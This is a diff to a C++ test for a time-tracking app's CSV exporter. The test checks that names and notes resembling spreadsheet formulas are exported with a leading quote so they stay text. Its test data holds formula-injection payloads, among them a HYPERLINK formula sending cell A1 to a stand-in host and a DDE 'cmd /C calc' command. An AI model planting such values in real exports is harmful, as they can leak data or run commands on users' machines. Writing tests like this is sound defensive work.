@@ -5,6 +5,8 @@
 
 #include "export_fixture.h"
 
+#include "support/temp_folder.h"
+
 #include <nlohmann/json.hpp>
 
 #include <cstdio>
@@ -15,6 +17,7 @@ using testsupport::allFields;
 using testsupport::allTimers;
 using testsupport::defaultFields;
 using testsupport::january;
+namespace fs = std::filesystem;
 
 namespace {
 
@@ -154,6 +157,40 @@ TEST_F(GoldenDocumentsTest, EveryGoldenCsvReadsBackWithItsCellsAndNotesIntact)
     const nlohmann::json all = readBackWithPython(goldenPath("csv_all_fields.csv"));
     ASSERT_TRUE(all.is_array());
     EXPECT_EQ(all[4].back(), "Review; round 2 \"final\"");
+}
+
+TEST_F(GoldenDocumentsTest, NamesAndNotesThatLookLikeFormulasReadBackAsTextWithTheirQuote)
+{
+    model::Project* hostile = project("=HYPERLINK(\"http://example.invalid/?\"&A1;\"open\")");
+    auto* client = model::initInContext<model::Client>(*context_);
+    client->setName("@SUM(1)");
+    client->setCurrency(std::string("CHF"));
+    hostile->setClient(client);
+    hostile->setNotes("-2+3");
+    periodTimer(hostile, january(5, 9), january(5, 10), "+1");
+    periodTimer(hostile, january(5, 11), january(5, 12), "\tcmd|' /C calc'!A0");
+    periodTimer(hostile, january(5, 13), january(5, 14), "\rline");
+    periodTimer(hostile, january(5, 15), january(5, 16), "a = b");
+    model::Timer* refund = timer(hostile, model::TimerType::expense, january(5, 17), "- refund");
+    refund->setFixedCost(foundation::Decimal(-50));
+    model::Project* unnamed = project("");
+    unnamed->setClient(client);
+
+    testsupport::TempFolder folder("horavine-csv");
+    const fs::path file = folder.path() / "hostile.csv";
+    std::ofstream(file, std::ios::binary) << Exporter::csvDocument({hostile, unnamed}, allTimers(), defaultFields());
+    const nlohmann::json rows = readBackWithPython(file.string());
+    ASSERT_TRUE(rows.is_array() && rows.size() == 10u) << rows.dump();
+    // Header, the project row, five timer rows, an empty line, the unnamed project's row, an empty line.
+    EXPECT_EQ(rows[1][0], "'=HYPERLINK(\"http://example.invalid/?\"&A1;\"open\") (@SUM(1))");
+    EXPECT_EQ(rows[1][6], "'-2+3");
+    std::vector<std::string> notes;
+    for (std::size_t index = 2; index <= 6; ++index)
+        notes.push_back(rows[index][6].get<std::string>());
+    EXPECT_EQ(notes, (std::vector<std::string>{"'+1", "'\tcmd|' /C calc'!A0", "'\rline", "a = b", "'- refund"}));
+    // What the exporter formats itself keeps its sign; a name that starts harmlessly stays as it is.
+    EXPECT_EQ(rows[6][5], "-CHF\u00A050.00");
+    EXPECT_EQ(rows[8][0], " (@SUM(1))");
 }
 
 TEST_F(GoldenDocumentsTest, ARunningTimerEndsAtTheCurrentMinute)
